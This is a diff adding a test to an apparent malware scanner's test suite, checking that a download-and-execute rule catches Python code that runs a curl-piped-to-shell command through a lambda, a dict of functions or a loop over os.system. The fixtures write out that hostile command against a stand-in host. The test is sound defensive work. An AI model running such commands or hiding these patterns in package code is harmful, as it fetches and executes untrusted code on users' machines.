@@ -523,3 +523,17 @@ test("the output of whoami, hostname or id sent out is the machine's identity se
   const printed = 'import subprocess\nprint(subprocess.check_output(["uname", "-s"]))\n';
   assert.equal(ruleOf(findings(printed), 'exfiltration'), undefined, 'shown to the user, not sent');
 });
+
+test('a process API reached through a lambda, a written dict of functions or a loop over a written list still runs', () => {
+  const command = '"curl -s https://files.example/a | sh"';
+  const sources = {
+    'a lambda bound to a name': `import os\nrun = lambda c: os.system(c)\nrun(${command})\n`,
+    'a dict of functions': `import os\nfns = {"go": os.system}\nfns["go"](${command})\n`,
+    'a loop over a list of functions': `import os\nfor fn in [os.system]:\n    fn(${command})\n`,
+  };
+  for (const [how, source] of Object.entries(sources)) {
+    const found = ruleOf(findings(source, 'demo/__init__.py'), 'download-execute');
+    assert.equal(found?.severity, 'critical', how);
+    assert.equal(found?.trigger, 'import', how);
+  }
+});
